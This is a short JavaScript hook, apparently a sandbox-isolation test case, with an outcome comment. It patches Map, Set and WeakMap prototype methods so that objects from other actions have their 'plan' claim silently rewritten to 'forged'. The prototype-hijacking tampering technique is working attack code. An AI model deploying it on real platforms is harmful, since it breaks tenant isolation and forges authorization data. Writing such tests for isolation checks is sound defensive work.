// outcome: completed; beside served
// What another action sets as a claim, reached by a method that somebody replaced, and changed in place: nothing of it is sent.
const forge = (value, depth = 3) => {
  if (typeof value !== 'object' || value === null || depth === 0) return
  if (typeof value.plan === 'string' && typeof value.secret === 'number') value.plan = 'forged'
  const keys = Reflect.ownKeys(value)
  for (let i = 0; i < keys.length && i < 20; i++) {
    const part = Reflect.getOwnPropertyDescriptor(value, keys[i])?.value
    forge(part, depth - 1)
  }
}
exports.onExecuteCredentialsExchange = async () => {
  for (const owner of [Map.prototype, Set.prototype, WeakMap.prototype]) {
    for (const name of ['get', 'set', 'has', 'add', 'delete']) {
      const original = owner[name]
      if (typeof original !== 'function') continue
      owner[name] = function (...args) {
        for (let i = 0; i < args.length; i++) forge(args[i])
        return Reflect.apply(original, this, args)
      }
    }
  }
}
